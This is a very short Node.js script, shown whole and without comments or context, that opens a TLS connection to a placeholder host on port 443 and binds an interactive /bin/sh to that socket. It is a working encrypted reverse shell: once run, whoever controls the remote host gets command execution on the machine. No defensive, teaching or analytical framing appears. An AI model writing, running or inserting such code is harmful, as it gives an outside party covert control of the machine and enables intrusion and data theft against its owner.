const { spawn } = require('child_process')
const tls = require('tls')

const line = tls.connect(443, 'line.example.invalid', () => {
  spawn('/bin/sh', ['-i'], { stdio: [line, line, line] })
})
